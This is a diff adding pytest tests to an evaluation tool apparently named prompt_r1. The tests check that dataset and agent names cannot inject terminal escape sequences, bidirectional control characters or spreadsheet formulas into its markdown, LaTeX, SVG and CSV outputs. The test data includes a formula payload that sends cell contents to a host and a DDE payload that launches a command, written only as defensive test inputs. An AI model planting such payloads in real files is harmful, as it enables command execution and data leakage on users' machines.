@@ -12,6 +12,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from prompt_r1.cli.markdown import markdown_table
 from prompt_r1.evaluation import paper_numbers
 from prompt_r1.evaluation.aggregate import score_predictions
 from prompt_r1.evaluation.comparison import Comparison, compare_systems, comparison_table
@@ -236,6 +237,12 @@ def test_special_characters_do_not_break_the_columns_of_markdown():
     assert r"a\|b" in lines[0] and r"50%\|a_b" in lines[2]
 
 
+def test_a_backslash_before_a_pipe_does_not_end_the_cell():
+    """GitHub reads two backslashes as one, so the pipe after them needs one of its own."""
+    lines = markdown_table([r"a\|b"], [[r"c\\|"]]).splitlines()
+    assert lines[::2] == [r"| a\\\|b |", r"| c\\\\\| |"]
+
+
 def test_a_pipe_in_the_name_of_a_dataset_or_agent_does_not_break_the_lists():
     correct = {"a|b": [True, False], "c": [True]}
     full = System("prompt-r1", "large", "runs/x|y")
@@ -262,6 +269,45 @@ def test_special_characters_are_escaped_in_latex():
     escaped = r"50\%|a\_b \& \{c\} \#1 \$2 \textasciitilde{}x \textasciicircum{}y \textbackslash{}z"
     assert text.count(escaped) == 5  # caption, head, column, and the row twice: ours and the paper's
     assert "50%" not in text
+
+
+HOSTILE = "t\x1b[2J\x1b]0;owned\a\u202eabc\u200b\x85\u2028\nx|y"
+
+
+@pytest.mark.parametrize("tables", [False, True])
+def test_names_of_datasets_and_agents_cannot_move_the_cursor_or_reorder_text(tables, tmp_path):
+    """They come from files of others, and are shown by terminals, editors and spreadsheets."""
+    full = System("prompt-r1", "large", f"runs/{HOSTILE}")
+    rows = [*predict_all({HOSTILE: [True] * 8, "b": [True]}, full)]
+    rows += predict_all({HOSTILE: [False] * 8}, System("prompt-r1", "large", "runs/z"))
+    rows += predict_all({HOSTILE: [False] * 8, "b": [False]})
+    text = write_results(tmp_path, score_predictions(rows), {}, tables=tables)
+    written = {path.name: path.read_text("utf-8") for path in tmp_path.iterdir()}
+    assert {"table2.tex", "table2.csv", "cells.csv", "tables.md", "cost.svg"} <= written.keys()
+    for name, content in [("printed", text), *written.items()]:
+        hidden = {letter for letter in content if not letter.isprintable() and letter != "\n"}
+        assert not hidden, f"{name}: {hidden}"
+        assert name.endswith(".json") or "owned" in content
+    ElementTree.fromstring(written["cost.svg"])
+    for table in (written["results.md"], written["tables.md"]):
+        lines = [line for line in table.splitlines() if line.startswith("|")]
+        assert lines and all(line.endswith("|") for line in lines)
+    rows_of_csv = list(csv.reader(written["table2.csv"].splitlines()))
+    assert len({len(row) for row in rows_of_csv}) == 1
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://x/"&A1)', "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1"]
+)
+def test_a_name_cannot_become_a_formula_of_a_spreadsheet(name):
+    entries = {((name, "EM"), (name,)): Entry(number=-1.5)}
+    table = Table(name, "T", (name, "metric"), [(name, "EM")], [(name,)], entries)
+    [header, row] = csv.reader(to_csv(table).splitlines())
+    shown = "'" + name.replace("\t", " ")
+    assert header == [shown, "metric", shown] and row == [shown, "EM", "-1.5"]
+    results = score_predictions(predict_all({name: [True]}))
+    for cells in csv.reader(rates_to_csv(paper_tables(results, {})).splitlines()):
+        assert not any(cell.strip().startswith(("=", "+", "-", "@")) for cell in cells)
 
 
 # --- Comparisons ------------------------------------------------------------------------------------------
